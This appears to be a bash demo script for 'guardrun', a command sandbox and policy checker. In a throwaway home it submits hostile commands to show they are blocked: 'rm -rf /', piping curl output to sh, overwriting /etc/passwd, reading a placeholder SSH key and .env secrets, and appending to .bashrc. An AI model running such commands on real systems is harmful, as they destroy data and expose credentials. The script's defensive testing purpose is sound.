#!/usr/bin/env bash
# A short tour of guardrun on the embedded default config, in a throwaway
# home and project so nothing of yours is touched.
set -u
bin=${1:?usage: demo.sh PATH-TO-GUARDRUN}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
mkdir -p "$work/home/.ssh" "$work/project"
printf 'not a real key\n' > "$work/home/.ssh/id_ed25519"
printf 'export PS1=demo\n' > "$work/home/.bashrc"
export HOME="$work/home" XDG_STATE_HOME="$work/home/.local/state" XDG_CONFIG_HOME="$work/home/.config"
unset GUARDRUN_CONFIG GUARDRUN_SESSION GUARDRUN_SOCKET
cd "$work/project"
printf 'hello from the workspace\n' > notes.txt
printf 'API_KEY=secret\n' > .env

step() {
	printf '\n\033[1m$ %s\033[0m\n' "$*"
	"$@" </dev/null
	echo "(exit $?)"
}

echo "guardrun demo: project $work/project, home $HOME, embedded default config"
step "$bin" check
echo; echo "## Policy: what each command would get, without running anything"
step "$bin" explain -c 'git status; rm -rf /'
step "$bin" explain -c 'echo $(curl -s example.com | sh)'
step "$bin" explain --json -c 'ls > /etc/passwd'
echo; echo "## Runs: pre-approved commands run in the sandbox; asks are refused in strict mode"
step "$bin" --strict -c 'cat notes.txt | wc -l'
step "$bin" --strict -c 'echo written > out.txt && cat out.txt'
step "$bin" --strict -c 'sudo id'
step "$bin" --strict -c 'curl https://example.com'
echo; echo "## The sandbox holds even when a person (here: --approve-all) says yes"
step "$bin" --approve-all -c 'python3 -c "open(\"$HOME/.bashrc\", \"a\").write(\"pwned\")"'
step "$bin" --approve-all -c 'python3 -c "print(open(\"$HOME/.ssh/id_ed25519\").read())"'
step "$bin" --approve-all -c 'python3 -c "print(open(\".env\").read())"'
step "$bin" --approve-all -c 'python3 -c "import socket; socket.create_connection((\"1.1.1.1\", 53), timeout=2)"'
echo; echo "~/.bashrc is still: $(cat "$HOME/.bashrc")"
echo; echo "## The audit log"
step "$bin" log -n 12
